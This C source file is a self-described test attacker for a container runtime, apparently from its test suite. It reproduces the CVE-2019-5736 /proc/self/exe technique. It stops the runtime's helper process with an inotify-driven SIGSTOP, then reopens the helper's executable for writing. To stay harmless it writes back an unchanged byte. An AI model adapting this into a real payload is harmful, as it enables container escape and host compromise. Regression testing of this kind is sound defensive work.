/*
 * reopen-exe-attack: a test attacker, not part of crema. It reproduces
 * CVE-2019-5736 (runc's /proc/self/exe overwrite) from inside a container,
 * without damaging anything.
 *
 *   reopen-exe-attack REPORT_DIR TRIGGER SECONDS
 *
 * Run as the container's init; TRIGGER is an image file that starts with
 * "#!/proc/self/exe". When the runtime's `exec` runs TRIGGER, the kernel runs
 * the exec'ing process's own executable as the interpreter: the runtime's
 * helper runs itself again, now as a dumpable process of the container, whose
 * /proc/PID/exe the container may open. The attacker:
 *
 *   - keeps the /proc dirs (pidfds) of the processes that appear after it
 *     started, and for each an inotify watch on TRIGGER whose fd signals that
 *     process (F_SETOWN) with SIGSTOP (F_SETSIG) when an event is queued;
 *   - so when a watched process execs TRIGGER (execve opens it first), the
 *     kernel queues a stop to it from inside that execve, which takes effect
 *     when execve returns: the helper stops before it runs a single
 *     instruction, and the attacker opens its exe (O_PATH) at leisure, then
 *     lets it go on (SIGCONT);
 *   - once the process is gone (open retried while ETXTBSY), reopens that fd
 *     through /proc/self/fd/N for writing (O_RDWR, else O_WRONLY), reads the
 *     first byte through a read-only reopen and writes that same byte back at
 *     offset 0: the content stays the same, but the write says whether the
 *     file is writable.
 *
 * It writes REPORT_DIR/ready once it watches, then reports in REPORT_DIR/result
 * (written whole, then renamed into place):
 *   pid=P dev=D ino=I        the caught process and what its exe is (st_dev, st_ino)
 *   open=ok MODE | open=ERRNO NAME   reopening for writing (MODE: rdwr or wronly)
 *   write=ok | write=ERRNO NAME | write=skipped
 * and then idles until SECONDS have passed since it started. Static, for a
 * busybox rootfs.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define MAX_WATCH 64
#define WATCH_NS (5LL * 1000000000) /* how long a new process is watched */

static long long now_ns(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000000000LL + t.tv_nsec;
}

static const char *report_dir;

static void write_file(const char *name, const char *text)
{
	char path[4096], tmp[4200];
	snprintf(path, sizeof(path), "%s/%s", report_dir, name);
	snprintf(tmp, sizeof(tmp), "%s.tmp", path);
	FILE *f = fopen(tmp, "w");
	if (!f || fputs(text, f) < 0 || fclose(f)) {
		perror("reopen-exe-attack: write report");
		exit(1);
	}
	if (rename(tmp, path)) {
		perror("reopen-exe-attack: rename report");
		exit(1);
	}
}

static void idle_until(long long deadline)
{
	while (now_ns() < deadline) {
		struct timespec t = {0, 100 * 1000000};
		nanosleep(&t, NULL);
	}
}

/* A process that appeared after we started: its /proc dir (also a pidfd) and stat file, held. */
struct target {
	int pid, dir, stat, ino;
	long long since;
};

static struct target watch[MAX_WATCH];
static int n_watch;
static unsigned char *seen; /* by pid: already watched, or there before us */
enum { SEEN_CAP = 1 << 22 };

static const char *trigger;

static void drop(int i)
{
	close(watch[i].dir);
	close(watch[i].stat);
	close(watch[i].ino);
	watch[i] = watch[--n_watch];
}

/* Adds the pids in /proc that are not ours and not yet seen. */
static void scan(void)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	if (!d)
		return;
	while ((e = readdir(d))) {
		char *end;
		long pid = strtol(e->d_name, &end, 10);
		if (*end || pid <= 1 || pid == getpid() || pid >= SEEN_CAP || seen[pid])
			continue;
		seen[pid] = 1;
		if (n_watch == MAX_WATCH)
			continue;
		struct target *t = &watch[n_watch];
		t->dir = openat(dirfd(d), e->d_name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		t->stat = t->dir < 0 ? -1 : openat(t->dir, "stat", O_RDONLY | O_CLOEXEC);
		if (t->stat < 0) {
			if (t->dir >= 0)
				close(t->dir);
			continue;
		}
		/* an event on TRIGGER sends SIGSTOP to this process, from the kernel */
		struct f_owner_ex owner = {.type = F_OWNER_PID, .pid = (pid_t)pid};
		t->ino = inotify_init1(IN_CLOEXEC | IN_NONBLOCK);
		if (t->ino < 0 || inotify_add_watch(t->ino, trigger, IN_OPEN) < 0 ||
		    fcntl(t->ino, F_SETOWN_EX, &owner) || fcntl(t->ino, F_SETSIG, SIGSTOP) ||
		    fcntl(t->ino, F_SETFL, O_ASYNC | O_NONBLOCK)) {
			perror("reopen-exe-attack: inotify");
			exit(1);
		}
		t->pid = (int)pid;
		t->since = now_ns();
		n_watch++;
	}
	closedir(d);
}

/*
 * A watched process that the kernel stopped: its exe is tried, then it goes
 * on (the SIGCONT comes after the stop took effect: it would discard a
 * pending stop). Its inotify queue is drained, so that the next open of
 * TRIGGER queues an event, and a stop, again. Returns an O_PATH fd of the
 * exe, or -1.
 */
static int try_stopped(struct target *t)
{
	char buf[4096], state[512];
	ssize_t k = pread(t->stat, state, sizeof(state) - 1, 0);
	if (k <= 0)
		return -1;
	state[k] = 0;
	char *p = strrchr(state, ')');
	if (!p || p[1] == 0 || p[2] != 'T')
		return -1;
	int fd = openat(t->dir, "exe", O_PATH | O_CLOEXEC);
	while (read(t->ino, buf, sizeof(buf)) > 0)
		;
	syscall(SYS_pidfd_send_signal, t->dir, SIGCONT, NULL, 0);
	return fd;
}

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: reopen-exe-attack REPORT_DIR TRIGGER SECONDS\n");
		return 2;
	}
	report_dir = argv[1];
	long long deadline = now_ns() + strtol(argv[3], NULL, 10) * 1000000000LL;
	int caught = -1, caught_pid = 0;
	trigger = argv[2];
	if (!(seen = calloc(SEEN_CAP, 1)))
		return 1;
	scan();
	while (n_watch > 0) /* what is there now is not the runtime's */
		drop(n_watch - 1);
	write_file("ready", "ready\n");

	while (caught < 0 && now_ns() < deadline) {
		/* every 200 us: the runtime's helper lives far longer before it execs TRIGGER */
		struct timespec pause = {0, 200 * 1000};
		nanosleep(&pause, NULL);
		scan();
		for (int i = 0; i < n_watch && caught < 0; i++)
			if ((caught = try_stopped(&watch[i])) >= 0)
				caught_pid = watch[i].pid;
		long long t = now_ns();
		for (int i = 0; i < n_watch; i++) /* drop the ones watched long enough */
			if (t - watch[i].since > WATCH_NS)
				drop(i--);
	}
	if (caught < 0) {
		idle_until(deadline);
		return 0;
	}

	char report[1024], self[64];
	int len = 0;
	struct stat st;
	if (fstat(caught, &st)) {
		perror("reopen-exe-attack: fstat");
		return 1;
	}
	len += snprintf(report + len, sizeof(report) - len, "pid=%d dev=%llu ino=%llu\n", caught_pid,
			(unsigned long long)st.st_dev, (unsigned long long)st.st_ino);

	/* the exec'd helper holds the file busy for writing until it exits: retry, bounded */
	snprintf(self, sizeof(self), "/proc/self/fd/%d", caught);
	int wr = -1, err = 0;
	const char *mode = "rdwr";
	for (int i = 0; i < 5000; i++) {
		wr = open(self, O_RDWR | O_CLOEXEC);
		if (wr < 0 && errno != ETXTBSY) {
			mode = "wronly";
			wr = open(self, O_WRONLY | O_CLOEXEC);
		}
		if (wr >= 0 || errno != ETXTBSY)
			break;
		struct timespec t = {0, 1000000};
		nanosleep(&t, NULL);
	}
	err = errno;
	if (wr < 0) {
		len += snprintf(report + len, sizeof(report) - len, "open=%d %s\nwrite=skipped\n", err,
				strerrorname_np(err));
	} else {
		len += snprintf(report + len, sizeof(report) - len, "open=ok %s\n", mode);
		/* the same byte back where it was: the file's content does not change */
		unsigned char first;
		int rd = open(self, O_RDONLY | O_CLOEXEC);
		if (rd < 0 || pread(rd, &first, 1, 0) != 1) {
			err = errno;
			len += snprintf(report + len, sizeof(report) - len, "write=skipped (read: %s)\n",
					strerrorname_np(err));
		} else if (pwrite(wr, &first, 1, 0) != 1) {
			err = errno;
			len += snprintf(report + len, sizeof(report) - len, "write=%d %s\n", err, strerrorname_np(err));
		} else {
			len += snprintf(report + len, sizeof(report) - len, "write=ok\n");
		}
		if (rd >= 0)
			close(rd);
		close(wr);
	}
	close(caught);
	write_file("result", report);
	idle_until(deadline);
	return 0;
}
